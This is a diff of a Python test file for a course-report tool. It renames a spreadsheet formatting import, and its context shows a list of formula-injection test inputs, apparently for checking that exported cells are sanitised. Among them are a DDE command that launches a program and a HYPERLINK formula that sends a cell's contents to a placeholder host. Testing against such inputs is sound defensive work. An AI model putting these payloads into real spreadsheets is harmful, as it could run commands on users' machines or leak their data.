@@ -14,10 +14,10 @@ from coursekit import cli
 from coursekit.report import build_report
 from coursekit.report.hand_ins import Sorted, hand_ins_in
 from coursekit.report.process_pool import ProcessPool
-from coursekit.report.sheet import Layout
+from coursekit.report.spreadsheet import SheetFormat
 from tests.report.conftest import Classroom
 
-cell = Layout().cell
+cell = SheetFormat().cell
 
 FORMULAS = (
     "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"click")', "\t=1+1", "\r=1+1",
